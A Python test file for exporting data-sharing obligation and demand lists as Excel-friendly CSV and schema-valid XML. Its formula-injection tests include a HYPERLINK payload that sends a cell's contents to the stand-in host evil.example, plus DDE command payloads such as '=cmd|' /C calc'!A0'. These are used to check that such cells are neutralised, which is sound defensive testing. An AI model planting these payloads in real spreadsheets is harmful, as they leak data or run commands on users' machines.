"""The list files: CSV that Excel opens with the Chinese intact and no formula ever runs, XML valid
against schemas/lists.xsd, and the schema's enumerations equal to the domain's."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import replace

import pytest
from lxml import etree

from catalog import lists as domain
from catalog.disputes import disputed
from catalog.lists import Compliance, Demand, DemandRequest, DemandState, Obligation
from catalog.model import OpenType, ShareType, UpdateCycle, create, publish
from node.files.lists import (
    COMPLIANCE_LABELS,
    DEMAND_COLUMNS,
    DEMAND_STATE_LABELS,
    NAMESPACE,
    RESPONSIBILITY_COLUMNS,
    SCHEMA_PATH,
    demands,
    neutralise,
    responsibilities,
)
from node.services.lists import ObligationLine
from security.xml import InvalidXml, load_schema, parse_untrusted
from tests.conftest import OTHER_PROVIDER, PROVIDER, resource

UTC = dt.UTC
PUBLISHED = dt.datetime(2026, 1, 5, 2, 0, tzinfo=UTC)
NOW = dt.datetime(2026, 3, 10, 1, 0, tzinfo=UTC)  # 2026-03-10 09:00 in Beijing
FILED = dt.datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
MAX_BYTES = 10 * 1024 * 1024
BOM = b"\xef\xbb\xbf"
NS = {"l": NAMESPACE}
XS = {"xs": "http://www.w3.org/2001/XMLSchema"}
LOW_INCOME = "城乡最低生活保障对象信息"


def published(code: str = "311140001/000101", **changes: object):
    return publish(create(resource(code, **changes), PUBLISHED), PUBLISHED)


def derived() -> Obligation:
    (obligation,) = domain.derived_obligations([published()])
    return obligation


def line(obligation: Obligation, *deliveries: dt.datetime) -> ObligationLine:
    return ObligationLine(obligation, domain.compliance(obligation, deliveries, NOW))


def every_compliance() -> list[ObligationLine]:
    base = derived()
    never = replace(base, resource_code="311140001/000102", resource_name="特困人员救助供养信息")
    fresh = replace(base, resource_code="311140001/000103", resource_name="临时救助信息",
                    since=dt.datetime(2026, 3, 1, 0, 0, tzinfo=UTC))
    explicit = Obligation(PROVIDER, "311140001/000104", "社会组织登记信息", UpdateCycle.OTHER, None,
                          contact="李四 010-58123114", explicit=True, since=PUBLISHED)
    return [
        line(base, dt.datetime(2026, 1, 20, 2, 0, tzinfo=UTC)),  # January delivered, February missed
        line(replace(base, resource_code="311140001/000105"), dt.datetime(2026, 1, 20, 2, 0, tzinfo=UTC),
             dt.datetime(2026, 2, 20, 2, 0, tzinfo=UTC)),
        line(never),
        line(fresh),
        line(explicit),
    ]


def request(**changes: object) -> DemandRequest:
    fields: dict[str, object] = dict(
        requester_code=OTHER_PROVIDER, resource_code="311140001/000101", items=("姓名", "保障金额"),
        purpose="低保家庭经济状况核对", legal_basis="《社会救助暂行办法》第十一条", frequency=UpdateCycle.MONTHLY,
        contact="王五 0471-6612345")
    fields.update(changes)
    return DemandRequest(**fields)  # type: ignore[arg-type]


def every_state() -> list[Demand]:
    conditional = published()
    unconditional = published("311140001/000106", share_type=ShareType.UNCONDITIONAL, share_condition="")
    refused = published("311140001/000107", share_type=ShareType.NOT_SHARED, open_type=OpenType.NOT_OPEN,
                        share_condition="涉及个人隐私，依《个人信息保护法》不予共享")
    later = FILED + dt.timedelta(days=1)
    submitted = domain.file_demand("XQ-20260302-00000001", request(resource_code="", items=("低保金额",),
                                   description="需要低保对象的保障金额，用于医疗救助一站式结算"), None, FILED)
    review = domain.file_demand("XQ-20260302-00000002", request(), conditional, FILED)
    approved = replace(domain.approve(review, "reviewer@mca", later), grant_id="SQ-20260303-0000000A")
    return [
        submitted,
        review,
        approved,
        domain.reject(review, "reviewer@mca", "用途与共享条件不符", later),
        domain.fulfil(approved, later + dt.timedelta(days=1)),
        domain.withdraw(replace(submitted, id="XQ-20260302-00000003"), later),
        domain.expire(replace(submitted, id="XQ-20260302-00000004"), FILED + dt.timedelta(days=11)),
        domain.file_demand("XQ-20260302-00000005", request(resource_code=unconditional.code), unconditional, FILED),
        domain.file_demand("XQ-20260302-00000006", request(resource_code=refused.code), refused, FILED),
        domain.file_demand("XQ-20260302-00000007", request(), conditional, FILED,
                           domain.Deadlines(compliance_review=True)),
        disputed(replace(domain.reject(review, "reviewer@mca", "涉及隐私", later), id="XQ-20260302-00000008"),
                 later),
    ]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_dicts(data: bytes) -> list[dict[str, str]]:
    header, *rows = read_csv(data)
    return [dict(zip(header, row, strict=True)) for row in rows]


def valid(data: bytes) -> etree._ElementTree:
    return parse_untrusted(data, schema=load_schema(SCHEMA_PATH), max_bytes=MAX_BYTES, what="list file")


# -- CSV -------------------------------------------------------------------------------------------------

def test_responsibility_csv_opens_in_excel_with_the_chinese_intact():
    data = responsibilities(every_compliance(), "csv", NOW, "")
    assert data.startswith(BOM) and not data.startswith(BOM * 2)
    header, *rows = read_csv(data)
    assert header == list(RESPONSIBILITY_COLUMNS)
    assert len(rows) == 5
    overdue = as_dicts(data)[0]
    assert overdue == {
        "提供部门代码": PROVIDER, "提供部门": "民政部社会救助司", "资源代码": "311140001/000101", "资源名称": LOW_INCOME,
        "信息项": "公民身份号码、姓名、保障金额、纳入保障日期", "共享类型": "有条件共享",
        "条件/依据": "仅用于社会救助家庭经济状况核对，需经申请人书面授权", "更新周期": "每月",
        "报送要求": "每月，周期结束后 5 日内报送", "联系人": "", "来源": "目录派生", "履行情况": "逾期",
        "最近报送": "2026-01-20 10:00", "下次截止": "2026-03-06 00:00", "逾期天数": "5", "缺报期数": "1",
    }


def test_every_compliance_has_its_chinese_label_and_days_late_only_when_late():
    rows = as_dicts(responsibilities(every_compliance(), "csv", NOW, ""))
    assert [r["履行情况"] for r in rows] == ["逾期", "按时", "从未报送", "未到期", "不定期"]
    assert [r["逾期天数"] for r in rows] == ["5", "", "33", "", ""]  # late since 2026-02-06 00:00 Beijing
    assert rows[4]["来源"] == "人工添加" and rows[4]["更新周期"] == "其他" and rows[4]["下次截止"] == ""


def test_csv_lines_end_with_crlf():
    data = responsibilities(every_compliance(), "csv", NOW, "")
    assert data.count(b"\r\n") == 6
    assert b"\n" not in data.replace(b"\r\n", b"")


def test_demand_csv_has_chinese_states_and_a_description_only_demand():
    data = demands(every_state(), "csv", NOW, OTHER_PROVIDER)
    assert data.startswith(BOM)
    assert read_csv(data)[0] == list(DEMAND_COLUMNS)
    rows = as_dicts(data)
    assert [r["状态"] for r in rows] == ["已提交", "审核中", "已批准", "已驳回", "已销账", "已撤回", "已过期", "已批准",
                                        "已驳回", "合规审核中", "争议协调中"]
    described = rows[0]
    assert described["资源代码"] == "" and described["提供部门"] == ""
    assert described["需求描述"] == "需要低保对象的保障金额，用于医疗救助一站式结算"
    review = rows[1]
    assert review["资源名称"] == LOW_INCOME and review["提供部门"] == PROVIDER
    assert review["信息项"] == "姓名、保障金额" and review["频率"] == "每月"
    assert review["提交时间"] == "2026-03-02 09:00" and review["审核期限"] == review["答复期限"] == "2026-03-10 00:00"  # 5 working days
    assert rows[2]["授权编号"] == "SQ-20260303-0000000A" and rows[2]["审核人"] == "reviewer@mca"
    assert rows[3]["理由"] == "用途与共享条件不符"
    assert rows[8]["理由"].startswith("不予共享：") and rows[8]["审核人"] == "rule:不予共享"


@pytest.mark.parametrize("cell", ["=1+2", "+8613800000000", "-2+3", "@SUM(A1:A9)", "\t=cmd", "\r=cmd"])
def test_a_formula_looking_cell_gets_a_leading_apostrophe(cell: str):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "张三", "0471-6612345", "311140001/000101", "a=b", "'=1"])
def test_ordinary_cells_are_left_alone(cell: str):
    assert neutralise(cell) == cell


def test_formulas_in_department_text_do_not_reach_excel():
    hostile = replace(every_state()[1], request=request(
        purpose='=HYPERLINK("http://evil.example/?"&A1,"点击查看")', legal_basis="+1+1", contact="@SUM(1+1)*cmd|' /C calc'!A0",
        description="-1+1"))
    explicit = Obligation(PROVIDER, "311140001/000104", "社会组织登记信息", UpdateCycle.OTHER, None,
                          contact="=cmd|' /C calc'!A0", explicit=True)
    row = as_dicts(demands([hostile], "csv", NOW, ""))[0]
    assert row["应用场景"] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    assert row["使用依据"] == "'+1+1"
    assert row["联系人"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["需求描述"] == "'-1+1"
    assert as_dicts(responsibilities([line(explicit)], "csv", NOW, ""))[0]["联系人"] == "'=cmd|' /C calc'!A0"


def test_empty_csv_lists_have_just_the_header():
    assert read_csv(responsibilities([], "csv", NOW, "")) == [list(RESPONSIBILITY_COLUMNS)]
    assert read_csv(demands([], "csv", NOW, "")) == [list(DEMAND_COLUMNS)]


# -- XML -------------------------------------------------------------------------------------------------

def test_responsibility_xml_is_valid_and_covers_every_compliance():
    lines = every_compliance()
    assert {x.status.compliance for x in lines} == set(Compliance)
    data = responsibilities(lines, "xml", NOW, "")
    assert data.startswith(b"<?xml version='1.0' encoding='UTF-8'?>\n")
    assert LOW_INCOME.encode() in data  # UTF-8, not character references
    root = valid(data).getroot()
    assert root.tag == f"{{{NAMESPACE}}}responsibilityList"
    assert dict(root.attrib) == {"version": "1", "generated": "2026-03-10T09:00:00+08:00", "scope": "node"}
    assert root.xpath("l:obligation/l:compliance/text()", namespaces=NS) == [x.status.compliance.value for x in lines]
    first = root.find("l:obligation", NS)
    assert first.findtext("l:nextDue", namespaces=NS) == "2026-03-06T00:00:00+08:00"
    assert first.findtext("l:lastDelivery", namespaces=NS) == "2026-01-20T10:00:00+08:00"
    assert first.findtext("l:overdueDays", namespaces=NS) == "5"
    assert first.findtext("l:source", namespaces=NS) == "CATALOG"
    assert first.xpath("l:items/l:item/text()", namespaces=NS) == ["公民身份号码", "姓名", "保障金额", "纳入保障日期"]
    explicit = root.findall("l:obligation", NS)[-1]
    assert explicit.findtext("l:source", namespaces=NS) == "EXPLICIT"
    for absent in ("departmentName", "items", "shareType", "graceDays", "lastDelivery", "nextDue", "overdueDays"):
        assert explicit.find(f"l:{absent}", NS) is None


def test_demand_xml_is_valid_and_covers_every_state():
    states = every_state()
    assert {d.state for d in states} == set(DemandState)
    root = valid(demands(states, "xml", NOW, OTHER_PROVIDER)).getroot()
    assert root.tag == f"{{{NAMESPACE}}}demandList" and root.get("scope") == OTHER_PROVIDER
    assert root.xpath("l:demand/l:state/text()", namespaces=NS) == [d.state.value for d in states]
    described = root.find("l:demand", NS)
    assert described.find("l:resourceCode", NS) is None and described.find("l:providerCode", NS) is None
    assert described.findtext("l:description", namespaces=NS).startswith("需要低保对象")
    review = root.findall("l:demand", NS)[1]
    assert review.findtext("l:resourceCode", namespaces=NS) == "311140001/000101"
    assert review.findtext("l:frequency", namespaces=NS) == "MONTHLY"
    assert review.findtext("l:reviewDeadline", namespaces=NS) == "2026-03-10T00:00:00+08:00"


@pytest.mark.parametrize("kind", [responsibilities, demands])
def test_an_empty_list_is_a_valid_document(kind):
    root = valid(kind([], "xml", NOW, PROVIDER)).getroot()
    assert len(root) == 0 and root.get("scope") == PROVIDER


def test_characters_xml_cannot_carry_are_replaced_not_fatal():
    demand = replace(every_state()[1], request=request(purpose="核对\x0b用途\x00"))
    root = valid(demands([demand], "xml", NOW, "")).getroot()
    assert root.findtext("l:demand/l:purpose", namespaces=NS) == "核对\ufffd用途\ufffd"


def test_the_schema_is_not_vacuous():
    data = responsibilities(every_compliance(), "xml", NOW, "")
    for good, bad in ((b"<compliance>OVERDUE<", b"<compliance>LATE<"), (b"+08:00</nextDue>", b"Z</nextDue>"),
                      (b'scope="node"', b'scope="everyone"'), (PROVIDER.encode(), b"11100000MB0128476I")):
        with pytest.raises(InvalidXml):
            valid(data.replace(good, bad, 1))


@pytest.mark.parametrize("kind", [responsibilities, demands])
def test_an_unknown_format_is_refused(kind):
    with pytest.raises(ValueError, match="json"):
        kind([], "json", NOW, "")


def test_naive_times_are_refused_rather_than_guessed():
    with pytest.raises(ValueError, match="naive"):
        responsibilities([], "xml", NOW.replace(tzinfo=None), "")


# -- the schema against the domain -----------------------------------------------------------------------

def xsd() -> etree._ElementTree:
    return etree.parse(str(SCHEMA_PATH))


@pytest.mark.parametrize("simple_type, enum", [
    ("Compliance", Compliance), ("DemandState", DemandState), ("UpdateCycle", UpdateCycle), ("ShareType", ShareType),
])
def test_schema_enumerations_match_the_domain(simple_type: str, enum):
    values = xsd().xpath(f"//xs:simpleType[@name='{simple_type}']//xs:enumeration/@value", namespaces=XS)
    assert values == [m.value for m in enum]


@pytest.mark.parametrize("simple_type, labels", [("Compliance", COMPLIANCE_LABELS), ("DemandState", DEMAND_STATE_LABELS)])
def test_schema_documents_the_csv_labels(simple_type: str, labels):
    found = xsd().xpath(f"//xs:simpleType[@name='{simple_type}']//xs:enumeration", namespaces=XS)
    documented = {e.get("value"): e.findtext("xs:annotation/xs:documentation", namespaces=XS) for e in found}
    assert documented == {member.value: label for member, label in labels.items()}


def test_labels_cover_every_member():
    assert set(COMPLIANCE_LABELS) == set(Compliance) and set(DEMAND_STATE_LABELS) == set(DemandState)


def test_schema_namespace():
    root = xsd().getroot()
    assert root.get("targetNamespace") == NAMESPACE and root.get("elementFormDefault") == "qualified"
